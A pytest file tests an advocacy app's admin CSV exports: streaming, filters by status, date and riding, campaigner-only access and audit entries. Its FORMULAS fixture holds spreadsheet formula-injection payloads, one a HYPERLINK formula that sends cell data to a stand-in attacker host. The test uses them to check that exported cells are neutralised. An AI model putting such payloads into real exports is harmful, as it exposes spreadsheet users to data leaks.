"""CSV exports: streamed, filtered, formula cells neutralised, campaigners only, every one audited."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from advocacy.models import AuditEntry, Supporter
from advocacy.services import exports
from advocacy.services.petitions import sign_petition

from ..conftest import confirm_by_email, post_form

PETITION = "the-rich-and-the-rest-of-us"
LETTER = "stop-offshoring"
URL = f"/admin/campaigns/{PETITION}/exports/signatures.csv"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1", "-2", "@x", "\tTab", "\rReturn"]


def add_signature(ctx, first: str, last: str, *, when: datetime, district: str = "Ottawa Centre",
                  hold: bool = False, source: str = "") -> None:
    """A signature as the signing service stores it (imports and allies write them this way, past the form)."""
    number = add_signature.count = getattr(add_signature, "count", 0) + 1
    email = f"signer{number}@example.com"
    with ctx.db.transaction() as session:
        person = Supporter(email=email, email_key=email, first_name=first, last_name=last, postal_code="K1R7S8")
        sign_petition(session, ctx.catalog.get(PETITION), person, now=when, district=district, hold=hold,
                      source=source)


def rows(response, data: bytes | None = None) -> list[dict[str, str]]:
    data = response.get_data() if data is None else data
    assert data.startswith(b"\xef\xbb\xbf")  # so spreadsheets read accents right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def audit_entries(db, action: str) -> list[AuditEntry]:
    with db.transaction() as session:
        return list(session.scalars(select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)))


def test_signatures_export_is_a_streamed_attachment_not_cached_and_audited(ctx, staff_client, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 2)  # several batches from three rows
    for name in ("Émilie", "Noël", "Ann"):
        add_signature(ctx, name, "Côté", when=datetime(2026, 11, 20, 15, tzinfo=UTC))
    campaigner = staff_client("campaigner")
    response = campaigner.get(URL)
    assert response.status_code == 200 and response.is_streamed
    assert response.headers["Content-Disposition"].startswith(f'attachment; filename="{PETITION}-signatures-')
    assert response.headers["Cache-Control"] == "no-store" and response.mimetype == "text/csv"
    chunks = list(response.response)
    assert len(chunks) == 3  # the header, then one chunk per batch of two rows
    found = rows(response, b"".join(chunks))
    assert [r["First name"] for r in found] == ["Émilie", "Noël", "Ann"]
    assert found[0]["Signed at (Toronto)"] == "2026-11-20 10:00:00" and found[0]["Status"] == "confirmed"
    assert found[0]["Email"] == "signer1@example.com" and found[0]["Riding"] == "Ottawa Centre"
    [entry] = audit_entries(ctx.db, "export.signatures")
    assert (entry.actor, entry.target) == (campaigner.staff.email, f"campaign:{PETITION}")
    assert entry.detail == {"status": "", "since": "", "until": "", "riding": ""}


def test_formula_cells_are_neutralised_with_a_leading_quote(ctx, staff_client):
    for value in FORMULAS:
        add_signature(ctx, value, value, when=datetime(2026, 11, 20, 15, tzinfo=UTC), source=value)
    found = rows(staff_client("campaigner").get(URL))
    assert [r["First name"] for r in found] == [f"'{value}" for value in FORMULAS]
    assert [r["Source"] for r in found] == [f"'{value}" for value in FORMULAS]
    for row in found:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_filters_by_status_date_range_and_riding(ctx, staff_client):
    add_signature(ctx, "Early", "Ottawa", when=datetime(2026, 11, 1, 15, tzinfo=UTC))
    add_signature(ctx, "Mid", "Ottawa", when=datetime(2026, 11, 10, 15, tzinfo=UTC))
    add_signature(ctx, "Mid", "Toronto", when=datetime(2026, 11, 10, 15, tzinfo=UTC), district="Spadina—Fort York")
    add_signature(ctx, "Mid", "Pending", when=datetime(2026, 11, 10, 15, tzinfo=UTC), hold=True)
    # 02:00 UTC on the 21st is still the 20th in Toronto: the date range is in Toronto days.
    add_signature(ctx, "Late", "Evening", when=datetime(2026, 11, 21, 2, tzinfo=UTC))
    campaigner = staff_client("campaigner")

    def names(**query: str) -> list[str]:
        response = campaigner.get(URL, query_string=query)
        assert response.status_code == 200
        return [f"{r['First name']} {r['Last name']}" for r in rows(response)]

    assert names(status="confirmed", riding="Ottawa Centre") == ["Early Ottawa", "Mid Ottawa", "Late Evening"]
    assert names(status="pending") == ["Mid Pending"]
    assert names(since="2026-11-05", until="2026-11-20") == ["Mid Ottawa", "Mid Toronto", "Mid Pending",
                                                             "Late Evening"]
    assert names(until="2026-11-19") == ["Early Ottawa", "Mid Ottawa", "Mid Toronto", "Mid Pending"]
    assert names(riding="Spadina—Fort York", since="2026-11-10", until="2026-11-10") == ["Mid Toronto"]
    assert names(riding="Nowhere") == []
    detail = audit_entries(ctx.db, "export.signatures")[-1].detail
    assert detail == {"status": "", "since": "", "until": "", "riding": "Nowhere"}


@pytest.mark.parametrize(("query", "message"), [
    ({"since": "yesterday"}, "Enter a date like 2026-11-24"),
    ({"until": "2026-02-30"}, "Enter a date like 2026-11-24"),
    ({"since": "2026-11-20", "until": "2026-11-01"}, "The end date must be on or after the start date"),
    ({"status": "deleted"}, "Choose a status from the list"),
    ({"riding": "x" * 201}, "A riding name has at most 200 characters"),
])
def test_bad_filters_show_the_form_with_a_clear_message(ctx, staff_client, query, message):
    response = staff_client("campaigner").get(URL, query_string=query)
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and response.mimetype == "text/html"
    assert "There is a problem" in page and message in page and 'aria-invalid="true"' in page
    assert audit_entries(ctx.db, "export.signatures") == []  # nothing left, so nothing to record


def test_letters_export_has_one_row_per_office_and_filters_by_state(client, db, staff_client):
    post_form(client, f"/campaigns/{LETTER}", {"first_name": "Bo", "last_name": "Li", "email": "bo@example.com",
                                               "postal_code": "k1p5j2", "intent": "send"})
    campaigner = staff_client("campaigner")
    url = f"/admin/campaigns/{LETTER}/exports/letters.csv"
    held = rows(campaigner.get(url, query_string={"letters-status": "held"}))
    assert sorted(r["Recipient email"] for r in held) == ["minister.service-delivery@demo.invalid",
                                                          "mpp.ottawa-centre@demo.invalid"]
    assert {r["Writer riding"] for r in held} == {"Ottawa Centre"} and {r["Writer email"] for r in held} == {
        "bo@example.com"}
    assert all(r["Body"] and r["Subject"] for r in held)
    confirm_by_email(client, db, "bo@example.com")
    assert rows(campaigner.get(url, query_string={"letters-status": "held"})) == []
    assert len(rows(campaigner.get(url, query_string={"letters-status": "queued",
                                                       "letters-riding": "Ottawa Centre"}))) == 2
    bad = campaigner.get(url, query_string={"letters-status": "lost"})
    assert bad.status_code == 400 and "Choose a status from the list" in bad.get_data(as_text=True)
    assert [e.detail["status"] for e in audit_entries(db, "export.letters")] == ["held", "held", "queued"]


def test_export_page_lists_the_forms_and_ridings(ctx, staff_client):
    add_signature(ctx, "Ann", "Lee", when=datetime(2026, 11, 20, 15, tzinfo=UTC))
    page = staff_client("campaigner").get(f"/admin/campaigns/{PETITION}/exports").get_data(as_text=True)
    assert 'action="/admin/campaigns/the-rich-and-the-rest-of-us/exports/signatures.csv"' in page
    assert '<option value="Ottawa Centre">' in page and 'for="since"' in page and 'type="date"' in page


def test_viewers_cannot_export(ctx, staff_client):
    viewer = staff_client("viewer")
    for url in (URL, f"/admin/campaigns/{LETTER}/exports/letters.csv", f"/admin/campaigns/{PETITION}/exports",
                f"/admin/campaigns/{PETITION}/petition/package.zip"):
        assert viewer.get(url).status_code == 403
    assert audit_entries(ctx.db, "export.signatures") == []
